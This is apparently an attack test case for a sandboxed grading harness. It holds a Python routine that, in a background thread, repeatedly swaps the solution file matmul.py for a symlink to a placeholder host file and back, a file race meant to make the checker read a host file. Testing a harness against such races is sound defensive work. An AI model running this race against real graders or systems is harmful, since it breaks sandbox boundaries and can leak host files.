# /// attack
# tries = "a part that is swapped for a link to the host's file, and grows, all the time"
# fails = []
# keeps = ["gpt.*", "scan.*"]
# docker = true
# ///
import os
import threading
import time


def build(home):
    part, other = home / "matmul.py", home.parent / "other.py"
    solution = part.read_bytes()

    def swap():
        until = time.monotonic() + 20
        while time.monotonic() < until:
            try:
                os.symlink("@canary@", other)
                os.rename(other, part)
                other.write_bytes(solution)
                os.rename(other, part)
                with open(part, "ab") as file:
                    file.write(b"#" * 1000)
            except OSError:
                pass

    threading.Thread(target=swap, daemon=True).start()
    return home
